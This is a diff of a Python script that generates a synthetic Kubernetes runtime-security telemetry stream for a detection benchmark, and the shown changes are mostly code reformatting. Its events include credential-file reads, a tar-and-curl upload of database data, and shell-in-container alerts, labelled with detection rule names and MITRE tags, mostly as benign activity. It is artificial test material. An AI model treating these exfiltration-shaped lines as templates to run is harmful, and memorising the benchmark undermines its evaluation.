@@ -19,6 +19,8 @@ diurnal load. Benign change is labelled by category (``BENIGN``), attacks by sce
     python bench/ai_streams.py --seed 1 --out /tmp/hard.jsonl   # writes the stream
 """
 
+# ruff: noqa: E501, PLR0917, PLR0912, RUF015, S311 - a scenario script: long literal event lines, emitters with many positional fields, seeded (not cryptographic) randomness
+
 from __future__ import annotations
 
 import argparse
@@ -259,10 +261,20 @@ class Gen:
     ) -> None:
         cport = self.rng.randint(32768, 60999)
         if inbound_from is None:
-            name, etype, rule, prio = f"{pod.ip}:{cport}->{sip}:{sport}", "connect", "Outbound", "INFO"
+            name, etype, rule, prio = (
+                f"{pod.ip}:{cport}->{sip}:{sport}",
+                "connect",
+                "Outbound",
+                "INFO",
+            )
             rip, rport = sip, sport
         else:
-            name, etype, rule, prio = f"{inbound_from}:{cport}->{pod.ip}:{sport}", "accept4", "Inbound", "DEBUG"
+            name, etype, rule, prio = (
+                f"{inbound_from}:{cport}->{pod.ip}:{sport}",
+                "accept4",
+                "Inbound",
+                "DEBUG",
+            )
             rip, rport, sip = inbound_from, cport, pod.ip
         fields = {
             "evt.type": etype,
@@ -314,7 +326,9 @@ class Gen:
         what = "write below system directory" if write else "sensitive file opened"
         text = f"KubeSentinel telemetry: {what} (evt_type=openat user={user} process={proc} file={path})"
         rule = (
-            "KubeSentinel Write Below System Directory" if write else "KubeSentinel Sensitive File Opened"
+            "KubeSentinel Write Below System Directory"
+            if write
+            else "KubeSentinel Sensitive File Opened"
         )
         tags = ["telemetry", "kubesentinel", "container", "filesystem"]
         self.emit(t, pod, rule, "DEBUG" if write else "INFO", text, fields, tags, label)
@@ -414,8 +428,8 @@ def generate(seed: int, hours: float = 48.0) -> Stream:  # noqa: PLR0915 - a sce
     istiod = g.service("istiod", 15012)
     rabbit = g.service("rabbitmq", 5672)
     fraud = g.service("fraud-check", 9090)
-    search_svc = g.service("search", 9200)
-    notify_svc = g.service("notifications", 8080)
+    g.service("search", 9200)  # services nobody in the stream calls: address space taken
+    g.service("notifications", 8080)
     stripe_pool = [f"54.187.{rng.randint(0, 255)}.{rng.randint(1, 254)}" for _ in range(6)]
     stripe_later = [f"54.187.{rng.randint(0, 255)}.{rng.randint(1, 254)}" for _ in range(6)]
     s3_pool = [f"52.216.{rng.randint(0, 255)}.{rng.randint(1, 254)}" for _ in range(40)]
@@ -481,20 +495,45 @@ def generate(seed: int, hours: float = 48.0) -> Stream:  # noqa: PLR0915 - a sce
         ]
 
     # === web-nginx: nginx master and workers behind an ingress ===============================
-    ingress = daemonset("ingress-nginx", "ingress-nginx-controller", "registry.k8s.io/ingress-nginx/controller", "v1.9.4")
+    ingress = daemonset(
+        "ingress-nginx",
+        "ingress-nginx-controller",
+        "registry.k8s.io/ingress-nginx/controller",
+        "v1.9.4",
+    )
 
     def web_init(t: int, p: Pod) -> None:
         g.spawn(t, p, "sh", "/bin/busybox", "containerd-shim", "systemd", "sh -c /render.sh")
-        g.spawn(t + NS, p, "sed", "/bin/busybox", "sh", "containerd-shim", "sed -i s/X/Y/ /etc/nginx/conf.d/default.conf")
+        g.spawn(
+            t + NS,
+            p,
+            "sed",
+            "/bin/busybox",
+            "sh",
+            "containerd-shim",
+            "sed -i s/X/Y/ /etc/nginx/conf.d/default.conf",
+        )
         g.opened(t + NS, p, "sed", "/bin/busybox", "sh", "containerd-shim",
                  f"/etc/nginx/conf.d/sed{g.rand(6, 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789')}", write=True)  # fmt: skip
 
     def web_main(t: int, p: Pod) -> None:
-        g.spawn(t, p, "nginx", "/usr/sbin/nginx", "containerd-shim", "systemd", "nginx -g daemon off;")
+        g.spawn(
+            t, p, "nginx", "/usr/sbin/nginx", "containerd-shim", "systemd", "nginx -g daemon off;"
+        )
         for w in range(2):
-            g.spawn(t + NS + w, p, "nginx", "/usr/sbin/nginx", "nginx", "containerd-shim", "nginx: worker process")
+            g.spawn(
+                t + NS + w,
+                p,
+                "nginx",
+                "/usr/sbin/nginx",
+                "nginx",
+                "containerd-shim",
+                "nginx: worker process",
+            )
 
-    web = Deploy("shop", "web", "docker.io/library/nginx", 3, "1.25.3", init=web_init, main=web_main)
+    web = Deploy(
+        "shop", "web", "docker.io/library/nginx", 3, "1.25.3", init=web_init, main=web_main
+    )
     web.roll(START_NS - day)
     every_minute(g, web.live, 14, lambda t, p: g.connect(
         t, p, "nginx", "/usr/sbin/nginx", "nginx", "containerd-shim", "", 8080,
@@ -509,7 +548,16 @@ def generate(seed: int, hours: float = 48.0) -> Stream:  # noqa: PLR0915 - a sce
     # === frontend: node.js, scaled up in the afternoon of day 2 ==============================
     def fe_main(t: int, p: Pod) -> None:
         g.spawn(t, p, "sh", "/bin/sh", "containerd-shim", "systemd", "sh -c node server.js")
-        g.spawn(t + NS, p, "node", "/usr/local/bin/node", "sh", "containerd-shim", "node server.js", user="node")
+        g.spawn(
+            t + NS,
+            p,
+            "node",
+            "/usr/local/bin/node",
+            "sh",
+            "containerd-shim",
+            "node server.js",
+            user="node",
+        )
 
     frontend = Deploy("shop", "frontend", "ghcr.io/acme/frontend", 3, "2.14.0", main=fe_main)
     frontend.roll(START_NS - day)
@@ -523,19 +571,95 @@ def generate(seed: int, hours: float = 48.0) -> Stream:  # noqa: PLR0915 - a sce
 
     # === api: gunicorn, istio sidecar, init migration; rolled out on day 2 ===================
     def api_init(t: int, p: Pod) -> None:
-        g.spawn(t, p, "sh", "/bin/sh", "containerd-shim", "systemd", "sh -c python3 manage.py migrate")
-        g.spawn(t + NS, p, "python3", "/usr/local/bin/python3.11", "sh", "containerd-shim", "python3 manage.py migrate", user="app")
-        g.connect(t + 2 * NS, p, "python3", "/usr/local/bin/python3.11", "sh", "containerd-shim", *pg, user="app")
+        g.spawn(
+            t, p, "sh", "/bin/sh", "containerd-shim", "systemd", "sh -c python3 manage.py migrate"
+        )
+        g.spawn(
+            t + NS,
+            p,
+            "python3",
+            "/usr/local/bin/python3.11",
+            "sh",
+            "containerd-shim",
+            "python3 manage.py migrate",
+            user="app",
+        )
+        g.connect(
+            t + 2 * NS,
+            p,
+            "python3",
+            "/usr/local/bin/python3.11",
+            "sh",
+            "containerd-shim",
+            *pg,
+            user="app",
+        )
 
     def api_main(t: int, p: Pod) -> None:
-        g.spawn(t + 5 * NS, p, "pilot-agent", "/usr/local/bin/pilot-agent", "containerd-shim", "systemd", "pilot-agent proxy sidecar", user="istio-proxy")
-        g.spawn(t + 6 * NS, p, "envoy", "/usr/local/bin/envoy", "pilot-agent", "containerd-shim", "envoy -c etc/istio/proxy/envoy-rev.json", user="istio-proxy")
-        g.spawn(t + 8 * NS, p, "gunicorn", "/usr/local/bin/python3.11", "containerd-shim", "systemd", "gunicorn app:app -w 4", user="app")
+        g.spawn(
+            t + 5 * NS,
+            p,
+            "pilot-agent",
+            "/usr/local/bin/pilot-agent",
+            "containerd-shim",
+            "systemd",
+            "pilot-agent proxy sidecar",
+            user="istio-proxy",
+        )
+        g.spawn(
+            t + 6 * NS,
+            p,
+            "envoy",
+            "/usr/local/bin/envoy",
+            "pilot-agent",
+            "containerd-shim",
+            "envoy -c etc/istio/proxy/envoy-rev.json",
+            user="istio-proxy",
+        )
+        g.spawn(
+            t + 8 * NS,
+            p,
+            "gunicorn",
+            "/usr/local/bin/python3.11",
+            "containerd-shim",
+            "systemd",
+            "gunicorn app:app -w 4",
+            user="app",
+        )
         for w in range(4):
-            g.spawn(t + 9 * NS + w, p, "gunicorn", "/usr/local/bin/python3.11", "gunicorn", "containerd-shim", "gunicorn app:app -w 4", user="app")
+            g.spawn(
+                t + 9 * NS + w,
+                p,
+                "gunicorn",
+                "/usr/local/bin/python3.11",
+                "gunicorn",
+                "containerd-shim",
+                "gunicorn app:app -w 4",
+                user="app",
+            )
         if p.tag >= "3.9.0":  # the new release runs a celery worker beside gunicorn
-            g.spawn(t + 10 * NS, p, "sh", "/bin/sh", "containerd-shim", "systemd", "sh -c celery -A app worker", user="app", label=(None, "rollout"))
-            g.spawn(t + 11 * NS, p, "celery", "/usr/local/bin/python3.11", "sh", "containerd-shim", "celery -A app worker", user="app", label=(None, "rollout"))
+            g.spawn(
+                t + 10 * NS,
+                p,
+                "sh",
+                "/bin/sh",
+                "containerd-shim",
+                "systemd",
+                "sh -c celery -A app worker",
+                user="app",
+                label=(None, "rollout"),
+            )
+            g.spawn(
+                t + 11 * NS,
+                p,
+                "celery",
+                "/usr/local/bin/python3.11",
+                "sh",
+                "containerd-shim",
+                "celery -A app worker",
+                user="app",
+                label=(None, "rollout"),
+            )
 
     api = Deploy("shop", "api", "ghcr.io/acme/api", 3, "3.8.2", init=api_init, main=api_main)
     api.roll(START_NS - day)
@@ -561,24 +685,47 @@ def generate(seed: int, hours: float = 48.0) -> Stream:  # noqa: PLR0915 - a sce
     # === checkout: a JVM started by a bash entrypoint; starts calling fraud-check on day 2 ===
     def co_main(t: int, p: Pod) -> None:
         g.spawn(t, p, "bash", "/usr/bin/bash", "containerd-shim", "systemd", "bash /entrypoint.sh")
-        g.spawn(t + NS, p, "java", "/opt/java/openjdk/bin/java", "bash", "containerd-shim", "java -jar /app/checkout.jar", user="app")
+        g.spawn(
+            t + NS,
+            p,
+            "java",
+            "/opt/java/openjdk/bin/java",
+            "bash",
+            "containerd-shim",
+            "java -jar /app/checkout.jar",
+            user="app",
+        )
 
     checkout = Deploy("shop", "checkout", "ghcr.io/acme/checkout", 2, "1.22.5", main=co_main)
     checkout.roll(START_NS - day)
     kafka = statefulset("data", "kafka", "docker.io/bitnami/kafka", "3.6.0", 3)
     jv = ("java", "/opt/java/openjdk/bin/java", "bash", "containerd-shim")
-    every_minute(g, checkout.live, 4, lambda t, p: g.connect(t, p, *jv, chosen(kafka).ip, 9092, user="app"))
+    every_minute(
+        g, checkout.live, 4, lambda t, p: g.connect(t, p, *jv, chosen(kafka).ip, 9092, user="app")
+    )
     every_minute(g, checkout.live, 2, lambda t, p: g.connect(t, p, *jv, *pg, user="app"))
-    every_minute(g, checkout.live, 0.3, lambda t, p: g.connect(t, p, *jv, chosen(s3_pool[:8]), 443, user="app"))
+    every_minute(
+        g,
+        checkout.live,
+        0.3,
+        lambda t, p: g.connect(t, p, *jv, chosen(s3_pool[:8]), 443, user="app"),
+    )
     every_minute(g, checkout.live, 3, lambda t, p: g.connect(
         t, p, *jv, "", 8080, user="app", inbound_from=chosen(api.live(t) or api.pods).ip))  # fmt: skip
     every_minute(g, checkout.live, 2, lambda t, p: g.connect(
         t, p, *jv, *fraud, user="app", label=(None, "new-service")), start=START_NS + 32 * HOUR)  # fmt: skip
 
     # === search: an Elasticsearch-like JVM cluster ===========================================
-    search = statefulset("shop", "search", "docker.elastic.co/elasticsearch/elasticsearch", "8.11.1", 3)
+    search = statefulset(
+        "shop", "search", "docker.elastic.co/elasticsearch/elasticsearch", "8.11.1", 3
+    )
     sj = ("java", "/usr/share/elasticsearch/jdk/bin/java", "tini", "containerd-shim")
-    every_minute(g, lambda t: search, 3, lambda t, p: g.connect(t, p, *sj, chosen(search).ip, 9300, user="elasticsearch"))
+    every_minute(
+        g,
+        lambda t: search,
+        3,
+        lambda t, p: g.connect(t, p, *sj, chosen(search).ip, 9300, user="elasticsearch"),
+    )
     every_minute(g, lambda t: search, 4, lambda t, p: g.connect(
         t, p, *sj, "", 9200, user="elasticsearch", inbound_from=chosen(api.live(t) or api.pods).ip))  # fmt: skip
     every_minute(g, lambda t: search, 0.03, lambda t, p: g.spawn(
@@ -593,25 +740,104 @@ def generate(seed: int, hours: float = 48.0) -> Stream:  # noqa: PLR0915 - a sce
 
     def archive(t: int, p: Pod) -> None:
         seg = g.rand(24, "0123456789ABCDEF")
-        g.spawn(t, p, "sh", "/bin/sh", "postgres", "postgres", f"sh -c cp pg_wal/{seg} /archive/{seg}", user="postgres")
-        g.spawn(t + NS // 10, p, "cp", "/bin/cp", "sh", "postgres", f"cp pg_wal/{seg} /archive/{seg}", user="postgres")
+        g.spawn(
+            t,
+            p,
+            "sh",
+            "/bin/sh",
+            "postgres",
+            "postgres",
+            f"sh -c cp pg_wal/{seg} /archive/{seg}",
+            user="postgres",
+        )
+        g.spawn(
+            t + NS // 10,
+            p,
+            "cp",
+            "/bin/cp",
+            "sh",
+            "postgres",
+            f"cp pg_wal/{seg} /archive/{seg}",
+            user="postgres",
+        )
 
     every_minute(g, lambda t: postgres, 0.12, archive)
 
-    def upload(t: int, p: Pod, label: tuple[str | None, str | None] = N, ip: str | None = None) -> None:
-        g.spawn(t, p, "sh", "/bin/sh", "crond", "containerd-shim", "sh /scripts/basebackup.sh", user="postgres", label=label)
-        g.spawn(t + NS, p, "tar", "/bin/tar", "sh", "crond", "tar czf /tmp/base.tgz /var/lib/postgresql/data", user="postgres", label=label)
-        g.spawn(t + 40 * NS, p, "curl", "/usr/bin/curl", "sh", "crond", "curl -sT /tmp/base.tgz https://backups.s3.amazonaws.com/", user="postgres", label=label)
-        g.connect(t + 41 * NS, p, "curl", "/usr/bin/curl", "sh", "crond", ip or chosen(s3_pool), 443, user="postgres", label=label)
+    def upload(
+        t: int, p: Pod, label: tuple[str | None, str | None] = N, ip: str | None = None
+    ) -> None:
+        g.spawn(
+            t,
+            p,
+            "sh",
+            "/bin/sh",
+            "crond",
+            "containerd-shim",
+            "sh /scripts/basebackup.sh",
+            user="postgres",
+            label=label,
+        )
+        g.spawn(
+            t + NS,
+            p,
+            "tar",
+            "/bin/tar",
+            "sh",
+            "crond",
+            "tar czf /tmp/base.tgz /var/lib/postgresql/data",
+            user="postgres",
+            label=label,
+        )
+        g.spawn(
+            t + 40 * NS,
+            p,
+            "curl",
+            "/usr/bin/curl",
+            "sh",
+            "crond",
+            "curl -sT /tmp/base.tgz https://backups.s3.amazonaws.com/",
+            user="postgres",
+            label=label,
+        )
+        g.connect(
+            t + 41 * NS,
+            p,
+            "curl",
+            "/usr/bin/curl",
+            "sh",
+            "crond",
+            ip or chosen(s3_pool),
+            443,
+            user="postgres",
+            label=label,
+        )
 
     for h in range(int(hours)):
         upload(START_NS + h * HOUR + 17 * MIN + rng.randrange(MIN), postgres[0])
 
     def logrotate(t: int, p: Pod) -> None:
         lab = (None, "log-rotation")
-        g.spawn(t, p, "logrotate", "/usr/sbin/logrotate", "crond", "containerd-shim", "logrotate /etc/logrotate.conf", label=lab)
+        g.spawn(
+            t,
+            p,
+            "logrotate",
+            "/usr/sbin/logrotate",
+            "crond",
+            "containerd-shim",
+            "logrotate /etc/logrotate.conf",
+            label=lab,
+        )
         for i in (1, 2):
-            g.spawn(t + i * NS, p, "gzip", "/bin/gzip", "logrotate", "crond", f"gzip /var/log/postgresql/postgresql.log.{i}", label=lab)
+            g.spawn(
+                t + i * NS,
+                p,
+                "gzip",
+                "/bin/gzip",
+                "logrotate",
+                "crond",
+                f"gzip /var/log/postgresql/postgresql.log.{i}",
+                label=lab,
+            )
         g.stock(t + 3 * NS, p, "Clear Log Activities", "WARNING",
                 "Log files were tampered (file=/var/log/postgresql/postgresql.log)",
                 {"evt.type": "openat", "proc.name": "logrotate", "proc.pname": "crond", "proc.aname[2]": "containerd-shim",
@@ -647,24 +873,122 @@ def generate(seed: int, hours: float = 48.0) -> Stream:  # noqa: PLR0915 - a sce
     def nightly_report(t: int) -> None:
         lab = (None, "daily-job") if t >= train_end else N
         p = cron_pod("data", "nightly-report", "ghcr.io/acme/reports", "0.9.1", t)
-        g.spawn(t, p, "sh", "/bin/sh", "containerd-shim", "systemd", "sh -c python3 report.py", label=lab)
-        g.spawn(t + NS, p, "python3", "/usr/local/bin/python3.11", "sh", "containerd-shim", "python3 report.py", user="app", label=lab)
+        g.spawn(
+            t,
+            p,
+            "sh",
+            "/bin/sh",
+            "containerd-shim",
+            "systemd",
+            "sh -c python3 report.py",
+            label=lab,
+        )
+        g.spawn(
+            t + NS,
+            p,
+            "python3",
+            "/usr/local/bin/python3.11",
+            "sh",
+            "containerd-shim",
+            "python3 report.py",
+            user="app",
+            label=lab,
+        )
         for i in range(rng.randint(3, 6)):
-            g.connect(t + (2 + i) * NS, p, "python3", "/usr/local/bin/python3.11", "sh", "containerd-shim", *pg, user="app", label=lab)
-        g.connect(t + 60 * NS, p, "python3", "/usr/local/bin/python3.11", "sh", "containerd-shim", chosen(s3_pool), 443, user="app", label=lab)
-        g.opened(t + 61 * NS, p, "python3", "/usr/local/bin/python3.11", "sh", "containerd-shim", "/root/.aws/credentials", user="app", label=lab)
+            g.connect(
+                t + (2 + i) * NS,
+                p,
+                "python3",
+                "/usr/local/bin/python3.11",
+                "sh",
+                "containerd-shim",
+                *pg,
+                user="app",
+                label=lab,
+            )
+        g.connect(
+            t + 60 * NS,
+            p,
+            "python3",
+            "/usr/local/bin/python3.11",
+            "sh",
+            "containerd-shim",
+            chosen(s3_pool),
+            443,
+            user="app",
+            label=lab,
+        )
+        g.opened(
+            t + 61 * NS,
+            p,
+            "python3",
+            "/usr/local/bin/python3.11",
+            "sh",
+            "containerd-shim",
+            "/root/.aws/credentials",
+            user="app",
+            label=lab,
+        )
 
     def db_backup(t: int) -> None:
         lab = (None, "daily-job") if t >= train_end else N
         p = cron_pod("ops", "db-backup", "ghcr.io/acme/pg-backup", "16-2", t)
         g.spawn(t, p, "sh", "/bin/sh", "containerd-shim", "systemd", "sh /backup.sh", label=lab)
-        g.spawn(t + NS, p, "pg_dump", "/usr/bin/pg_dump", "sh", "containerd-shim", "pg_dump -Fc shop", label=lab)
-        g.connect(t + 2 * NS, p, "pg_dump", "/usr/bin/pg_dump", "sh", "containerd-shim", *pg, label=lab)
-        g.spawn(t + 200 * NS, p, "gzip", "/bin/gzip", "sh", "containerd-shim", "gzip /tmp/shop.dump", label=lab)
-        g.spawn(t + 260 * NS, p, "aws", "/usr/local/bin/aws", "sh", "containerd-shim", "aws s3 cp /tmp/shop.dump.gz s3://acme-backups/", label=lab)
-        g.opened(t + 261 * NS, p, "aws", "/usr/local/bin/aws", "sh", "containerd-shim", "/root/.aws/credentials", label=lab)
+        g.spawn(
+            t + NS,
+            p,
+            "pg_dump",
+            "/usr/bin/pg_dump",
+            "sh",
+            "containerd-shim",
+            "pg_dump -Fc shop",
+            label=lab,
+        )
+        g.connect(
+            t + 2 * NS, p, "pg_dump", "/usr/bin/pg_dump", "sh", "containerd-shim", *pg, label=lab
+        )
+        g.spawn(
+            t + 200 * NS,
+            p,
+            "gzip",
+            "/bin/gzip",
+            "sh",
+            "containerd-shim",
+            "gzip /tmp/shop.dump",
+            label=lab,
+        )
+        g.spawn(
+            t + 260 * NS,
+            p,
+            "aws",
+            "/usr/local/bin/aws",
+            "sh",
+            "containerd-shim",
+            "aws s3 cp /tmp/shop.dump.gz s3://acme-backups/",
+            label=lab,
+        )
+        g.opened(
+            t + 261 * NS,
+            p,
+            "aws",
+            "/usr/local/bin/aws",
+            "sh",
+            "containerd-shim",
+            "/root/.aws/credentials",
+            label=lab,
+        )
         for _ in range(3):
-            g.connect(t + 262 * NS, p, "aws", "/usr/local/bin/aws", "sh", "containerd-shim", chosen(s3_pool), 443, label=lab)
+            g.connect(
+                t + 262 * NS,
+                p,
+                "aws",
+                "/usr/local/bin/aws",
+                "sh",
+                "containerd-shim",
+                chosen(s3_pool),
+                443,
+                label=lab,
+            )
 
     for d in range(int(hours // 24) + 1):
         if START_NS + d * day + 2 * HOUR < g.end_ns:
@@ -706,11 +1030,44 @@ def generate(seed: int, hours: float = 48.0) -> Stream:  # noqa: PLR0915 - a sce
     def build(t: int) -> None:
         pi = rng.randrange(len(projects))
         proj, image, tag = projects[pi]
-        p = g.pod("ci", f"runner-{runner}-project-{pi + 11}-concurrent-{rng.randrange(3)}-{g.rand(5)}", image, tag, t)
+        p = g.pod(
+            "ci",
+            f"runner-{runner}-project-{pi + 11}-concurrent-{rng.randrange(3)}-{g.rand(5)}",
+            image,
+            tag,
+            t,
+        )
         lab: tuple[str | None, str | None] = (None, "ci-long-tail") if t >= train_end else N
-        g.spawn(t, p, "sh", "/bin/sh", "containerd-shim", "systemd", "sh -c if [ -x /usr/local/bin/bash ]", label=lab)
-        g.spawn(t + NS, p, "gitlab-runner-helper", "/usr/bin/gitlab-runner-helper", "sh", "containerd-shim", label=lab)
-        g.connect(t + 2 * NS, p, "git", "/usr/bin/git", "gitlab-runner-helper", "sh", chosen(gh_pool), 443, label=lab)
+        g.spawn(
+            t,
+            p,
+            "sh",
+            "/bin/sh",
+            "containerd-shim",
+            "systemd",
+            "sh -c if [ -x /usr/local/bin/bash ]",
+            label=lab,
+        )
+        g.spawn(
+            t + NS,
+            p,
+            "gitlab-runner-helper",
+            "/usr/bin/gitlab-runner-helper",
+            "sh",
+            "containerd-shim",
+            label=lab,
+        )
+        g.connect(
+            t + 2 * NS,
+            p,
+            "git",
+            "/usr/bin/git",
+            "gitlab-runner-helper",
+            "sh",
+            chosen(gh_pool),
+            443,
+            label=lab,
+        )
         script = f"/tmp/tmp.{g.rand(10, 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789')}"
         steps = rng.randint(15, 60)
         for i in range(steps):
@@ -721,20 +1078,50 @@ def generate(seed: int, hours: float = 48.0) -> Stream:  # noqa: PLR0915 - a sce
                 exe = f"{script}/{proc}"
             g.spawn(ts, p, proc, exe, parent, "sh", f"{proc} ...", label=lab)
             if proc in ("git", "curl", "npm", "pip", "go", "wget") and rng.random() < 0.5:
-                g.connect(ts + NS, p, proc, exe, parent, "sh", chosen(gh_pool + pkg_pool + cdn_pool), 443, label=lab)
+                g.connect(
+                    ts + NS,
+                    p,
+                    proc,
+                    exe,
+                    parent,
+                    "sh",
+                    chosen(gh_pool + pkg_pool + cdn_pool),
+                    443,
+                    label=lab,
+                )
             if proc == "apt-get":
                 g.stock(ts, p, "Launch Package Management Process in Container", "ERROR",
                         "Package management process launched in container (user=root command=apt-get install -y jq)",
                         {"evt.type": "execve", "proc.name": "apt-get", "proc.pname": parent, "proc.aname[2]": "sh",
                          "proc.exepath": exe, "user.name": "root"},
                         ["maturity_incubating", "container", "process", "software_mgmt", "mitre_persistence", "T1505"], lab)  # fmt: skip
-                g.connect(ts + NS, p, "http", "/usr/lib/apt/methods/http", "apt-get", parent, chosen(pkg_pool), 80, label=lab)
+                g.connect(
+                    ts + NS,
+                    p,
+                    "http",
+                    "/usr/lib/apt/methods/http",
+                    "apt-get",
+                    parent,
+                    chosen(pkg_pool),
+                    80,
+                    label=lab,
+                )
             if proc == "dpkg":
                 for _ in range(rng.randint(2, 6)):
                     path = rng.choice(["/usr/bin/jq", "/usr/lib/x86_64-linux-gnu/libonig.so.5", "/etc/ld.so.cache",
                                        f"/usr/lib/python3/dist-packages/__pycache__/x.cpython-311.pyc.{rng.randint(100, 99999)}",
                                        f"/etc/apt/apt.conf.d/.tmp.{g.rand(6, 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ')}"])  # fmt: skip
-                    g.opened(ts + NS, p, "dpkg", exe, parent, "sh", path, write=True, label=(None, "temp-names") if lab[1] else N)
+                    g.opened(
+                        ts + NS,
+                        p,
+                        "dpkg",
+                        exe,
+                        parent,
+                        "sh",
+                        path,
+                        write=True,
+                        label=(None, "temp-names") if lab[1] else N,
+                    )
             if proc in ("make", "go") and rng.random() < 0.3:
                 g.stock(ts + 2 * NS, p, "Drop and execute new binary in container", "CRITICAL",
                         f"Executing binary not part of base image (proc_exe=/builds/acme/{proj}/bin/app)",
@@ -750,8 +1137,12 @@ def generate(seed: int, hours: float = 48.0) -> Stream:  # noqa: PLR0915 - a sce
 
     # === node agents, mesh and controllers ===================================================
     fluent = daemonset("logging", "fluent-bit", "cr.fluentbit.io/fluent/fluent-bit", "2.2.0")
-    exporters = daemonset("monitoring", "node-exporter", "quay.io/prometheus/node-exporter", "v1.7.0")
-    prometheus = statefulset("monitoring", "prometheus", "quay.io/prometheus/prometheus", "v2.48.0", 1)
+    exporters = daemonset(
+        "monitoring", "node-exporter", "quay.io/prometheus/node-exporter", "v1.7.0"
+    )
+    prometheus = statefulset(
+        "monitoring", "prometheus", "quay.io/prometheus/prometheus", "v2.48.0", 1
+    )
     ds_live: dict[str, list[Pod]] = {"fluent": list(fluent), "exporters": list(exporters)}
     every_minute(g, lambda t: [p for p in ds_live["fluent"] if p.start_ns <= t < p.end_ns], 3, lambda t, p: g.connect(
         t, p, "fluent-bit", "/fluent-bit/bin/fluent-bit", "containerd-shim", "systemd", *es_svc))  # fmt: skip
@@ -763,7 +1154,17 @@ def generate(seed: int, hours: float = 48.0) -> Stream:  # noqa: PLR0915 - a sce
         targets = [(x.node.ip, 9100) for x in ds_live["exporters"] if x.start_ns <= t < x.end_ns]
         targets += [(x.ip, 15020) for x in api.live(t)] + [(x.ip, 9102) for x in search]
         ip, port = rng.choice(targets)
-        g.connect(t, p, "prometheus", "/bin/prometheus", "containerd-shim", "systemd", ip, port, user="nobody")
+        g.connect(
+            t,
+            p,
+            "prometheus",
+            "/bin/prometheus",
+            "containerd-shim",
+            "systemd",
+            ip,
+            port,
+            user="nobody",
+        )
 
     every_minute(g, lambda t: prometheus, 12, scrape, load=False)
     every_minute(g, lambda t: prometheus, 1, lambda t, p: g.connect(
@@ -771,10 +1172,14 @@ def generate(seed: int, hours: float = 48.0) -> Stream:  # noqa: PLR0915 - a sce
     every_minute(g, lambda t: prometheus, 1, lambda t, p: g.opened(
         t, p, "prometheus", "/bin/prometheus", "containerd-shim", "systemd",
         "/var/run/secrets/kubernetes.io/serviceaccount/token", user="nobody"), load=False)  # fmt: skip
-    cm = Deploy("cert-manager", "cert-manager", "quay.io/jetstack/cert-manager-controller", 1, "v1.13.2")
+    cm = Deploy(
+        "cert-manager", "cert-manager", "quay.io/jetstack/cert-manager-controller", 1, "v1.13.2"
+    )
     cm.roll(START_NS - day)
     cmp = ("cert-manager-co", "/app/cmd/controller/controller", "containerd-shim", "systemd")
-    every_minute(g, cm.live, 2, lambda t, p: g.connect(t, p, *cmp, *APISERVER, user="1000"), load=False)
+    every_minute(
+        g, cm.live, 2, lambda t, p: g.connect(t, p, *cmp, *APISERVER, user="1000"), load=False
+    )
     every_minute(g, cm.live, 1, lambda t, p: g.opened(
         t, p, *cmp, "/var/run/secrets/kubernetes.io/serviceaccount/token", user="1000"), load=False)  # fmt: skip
     istio_d = Deploy("istio-system", "istiod", "docker.io/istio/pilot", 1, "1.20.1")
@@ -789,17 +1194,33 @@ def generate(seed: int, hours: float = 48.0) -> Stream:  # noqa: PLR0915 - a sce
     billing = Deploy("payments", "billing", "ghcr.io/acme/billing", 2, "5.0.3")
     billing.roll(START_NS - day)
     bp = ("python3", "/usr/local/bin/python3.11", "containerd-shim", "systemd")
-    every_minute(g, billing.live, 1, lambda t, p: g.connect(t, p, *bp, *APISERVER, user="app"), load=False)
+    every_minute(
+        g, billing.live, 1, lambda t, p: g.connect(t, p, *bp, *APISERVER, user="app"), load=False
+    )
     every_minute(g, billing.live, 0.5, lambda t, p: g.opened(
         t, p, *bp, "/var/run/secrets/kubernetes.io/serviceaccount/token", user="app"), load=False)  # fmt: skip
     every_minute(g, billing.live, 2, lambda t, p: g.connect(t, p, *bp, *pg, user="app"))
-    every_minute(g, billing.live, 0.4, lambda t, p: g.connect(t, p, *bp, chosen(stripe_pool), 443, user="app"))
+    every_minute(
+        g,
+        billing.live,
+        0.4,
+        lambda t, p: g.connect(t, p, *bp, chosen(stripe_pool), 443, user="app"),
+    )
     every_minute(g, billing.live, 0.3, lambda t, p: g.spawn(
         t, p, "python3", "/usr/local/bin/python3.11", "runc", "containerd-shim", "python3 -m billing.probe", user="app"), load=False)  # fmt: skip
 
     # === ml model server =======================================================================
     def ml_main(t: int, p: Pod) -> None:
-        g.spawn(t, p, "python3", "/opt/conda/bin/python3.10", "containerd-shim", "systemd", "python3 -m serve", user="app")
+        g.spawn(
+            t,
+            p,
+            "python3",
+            "/opt/conda/bin/python3.10",
+            "containerd-shim",
+            "systemd",
+            "python3 -m serve",
+            user="app",
+        )
         for _ in range(3):
             g.connect(t + 5 * NS, p, *mlp, chosen(hf_pool), 443, user="app")
 
@@ -815,7 +1236,12 @@ def generate(seed: int, hours: float = 48.0) -> Stream:  # noqa: PLR0915 - a sce
     notif.roll(START_NS - day)
     nd = ("node", "/usr/local/bin/node", "sh", "containerd-shim")
     every_minute(g, notif.live, 1.5, lambda t, p: g.connect(t, p, *nd, *api_svc, user="node"))
-    every_minute(g, notif.live, 0.4, lambda t, p: g.connect(t, p, *nd, chosen(cdn_pool[:3]), 587, user="node"))
+    every_minute(
+        g,
+        notif.live,
+        0.4,
+        lambda t, p: g.connect(t, p, *nd, chosen(cdn_pool[:3]), 587, user="node"),
+    )
     every_minute(g, notif.live, 1, lambda t, p: g.connect(t, p, *nd, *redis, user="node"))
     every_minute(g, notif.live, 1, lambda t, p: g.connect(
         t, p, *nd, "", 8080, user="node", inbound_from=chosen(checkout.pods).ip))  # fmt: skip
@@ -834,7 +1260,7 @@ def generate(seed: int, hours: float = 48.0) -> Stream:  # noqa: PLR0915 - a sce
         user = rng.choice(["alice@acme.dev", "bob@acme.dev", "carol@acme.dev"])
         g.audit_exec(t, p, user, "sh", lab)
         g.stock(t + NS // 2, p, "Terminal shell in container", "NOTICE",
-                f"A shell was spawned in a container with an attached terminal (user=root process=sh parent=runc)",
+                "A shell was spawned in a container with an attached terminal (user=root process=sh parent=runc)",
                 {"evt.type": "execve", "proc.name": "sh", "proc.pname": "runc", "proc.exepath": "/bin/sh",
                  "user.name": "root", "proc.tty": 34816, "proc.cmdline": "sh"},
                 ["maturity_stable", "container", "shell", "mitre_execution", "T1059"], lab)  # fmt: skip
